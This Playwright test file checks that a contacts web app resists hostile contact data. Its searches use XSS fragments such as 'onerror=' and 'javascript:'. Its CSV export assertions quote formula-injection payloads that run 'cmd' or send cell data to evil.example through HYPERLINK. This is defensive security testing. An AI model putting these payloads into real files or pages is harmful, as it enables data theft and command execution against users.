import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { createUser } from '../setup/accounts';
import { putHostileContacts, RAN, type HostileContact } from './support/hostileContacts';
import { columnHeader, expectCount, readAllRows, searchBox } from './support/shownContacts';
import { expect, signIn, test } from './support/test';

let user: Awaited<ReturnType<typeof createUser>>;
let contacts: HostileContact[];
let values: number;
let opened: string[];

test.beforeEach(async ({ page, baseURL }) => {
  user = await createUser();
  ({ contacts, values } = await putHostileContacts(user));
  opened = [];
  page.on('dialog', async (dialog) => {
    opened.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('popup', (popup) => opened.push(`window: ${popup.url()}`));
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    const isOurs = hostname === new URL(baseURL ?? '').hostname;
    if (!isOurs && protocol !== 'blob:') opened.push(`request: ${request.url()}`);
  });
  await signIn(page, user);
  await expectAll(page);
});

// A script that runs leaves a trace: the flag, a dialog, a window, a request or a console error.
test.afterEach(async ({ page }) => {
  expect(await page.evaluate((flag) => flag in window, RAN)).toBe(false);
  expect(opened).toEqual([]);
});

async function expectAll(page: Page): Promise<void> {
  const all = String(contacts.length);
  await expectCount(page, all, all);
}

test(
  'the list shows, sorts and searches them',
  { tag: '@long' },
  async ({ page }, { annotations }) => {
    annotations.push({ type: 'hostile values', description: String(values) });
    // As docs/reliability.md has it.
    expect(values).toBe(608);
    const names = (await readAllRows(page)).map(([name]) => name);
    expect(names).toHaveLength(contacts.length);
    for (const { what, text } of contacts.filter((contact) => isPlain(contact.text))) {
      expect(names, what).toContain(text);
    }
    for (const column of ['Name', 'Company', 'Title', 'Email', 'Phone', 'Date Added']) {
      const header = columnHeader(page, column);
      await header.getByRole('button').click();
      const first = (await header.getAttribute('aria-sort')) ?? '';
      expect(first).toMatch(/^(?:a|de)scending$/);
      await header.getByRole('button').click();
      await expect(header).toHaveAttribute('aria-sort', /^(?:a|de)scending$/);
      await expect(header).not.toHaveAttribute('aria-sort', first);
      await expectAll(page);
    }
    for (const [search, found] of [
      ['<img src=x onerror=', '1'],
      ['javascript:window', '2'],
      ['__proto__', '1'],
      ['beforeafter', '1'],
      ['\\', '1'],
      ['%00%0d', '1'],
      ['.*', '0'],
      ['https://evil.example?"&a1', '1'],
    ] as const) {
      await searchBox(page).fill(search);
      await expectCount(page, found, String(contacts.length));
    }
  },
);

test.describe('at 360 px', () => {
  test.use({ viewport: { width: 360, height: 720 } });

  test(
    'they add no unsafe link, break no page, and can be corrected',
    { tag: '@long' },
    async ({ page }) => {
      await expectNoSidewaysScrolling(page, 'list');
      for (const { id, what, text } of contacts) {
        await openInside(page, `/contact/edit/${id}`);
        const save = page.getByRole('button', { name: 'Save Changes' });
        // `waitFor` checks every frame, which is faster than the polling of `expect`.
        await save.waitFor();
        await expectNoSidewaysScrolling(page, `edit of ${what}`);
        await expect(page.getByLabel('Full Name')).toHaveValue(expectedName(text));
        // The other fields stay as hostile as they are.
        await page.getByLabel('Job Title').fill(`Corrected: ${what}`);
        await save.click();

        await page.getByText('Your changes were saved.').waitFor();
        const main = page.getByRole('main');
        await expect(main.getByText(`Corrected: ${what}`, { exact: true }).first()).toBeVisible();
        await expectNoSidewaysScrolling(page, `detail of ${what}`);
        expect(await unsafeAddresses(page), what).toEqual([]);
      }
    },
  );
});

test('the exported file holds them as they are shown, with nothing to run', async ({ page }) => {
  const rows = await readAllRows(page);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const file = await readFile(await (await download).path(), 'utf8');
  const { data, errors } = Papa.parse<string[]>(file.slice(1), { skipEmptyLines: true });
  expect(errors).toEqual([]);
  const [header, ...lines] = data;
  expect(header).toEqual(['Name', 'Company', 'Title', 'Email', 'Phone', 'Date Added']);
  expect(lines).toHaveLength(contacts.length);

  for (const [index, cells] of lines.entries()) {
    expect(cells).toHaveLength(6);
    const shown = rows[index] ?? [];
    for (const [column, cell] of cells.slice(0, 5).entries()) {
      // What a spreadsheet would run has an apostrophe before it; nothing else differs.
      expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
      expect(cell.replace(/(^|;)'/g, '$1')).toBe(
        (shown[column] ?? '').replace('Unnamed Contact', ''),
      );
    }
    expect(cells[5]).toMatch(/^(\d{4}-\d\d-\d\d)?$/);
  }
  const names = lines.map(([name]) => name);
  for (const formula of [
    '\'=HYPERLINK("https://evil.example?"&A1,"Open")',
    '\'+cmd|" /C calc"!A0',
    '\'-2+3+cmd|" /C calc"!A0',
    '\'@SUM(1+1)*cmd|" /C calc"!A0',
    "'=1+1",
    '\'"=1+1","=2+2" =3+3',
  ]) {
    expect(names).toContain(formula);
  }
});

/** Whether the site shows the text to the letter: nothing in it is left out or made a blank. */
function isPlain(text: string | null): text is string {
  return text !== null && /^[!-~](?:[ -~]*[!-~])?$/.test(text);
}

/** What the name's field holds: the text itself where it is plain, else anything. */
function expectedName(text: string | null): string | RegExp {
  return isPlain(text) ? text : /^/;
}

/** Goes to another page of the site like an internal link, without a reload. */
async function openInside(page: Page, path: string): Promise<void> {
  await page.evaluate((address) => {
    window.history.pushState(null, '', address);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, path);
}

async function expectNoSidewaysScrolling(page: Page, where: string): Promise<void> {
  const scrolled = await page.evaluate(() => {
    window.scrollBy(10_000, 0);
    return window.scrollX;
  });
  expect(scrolled, where).toBe(0);
}

/** The addresses in the page's main part that lead to or load from where they must not. */
async function unsafeAddresses(page: Page): Promise<string[]> {
  return page.getByRole('main').evaluate((main) => {
    const isSafe = (address: string) =>
      /^(?:mailto:[^?&,]+|tel:[+\d]+|https?:\/\/[^@\\]+)$/.test(address);
    return [...main.querySelectorAll('[href], [src]')]
      .map((element) => ('href' in element ? element.href : element.getAttribute('src')))
      .map(String)
      .filter((address) => !isSafe(address));
  });
}
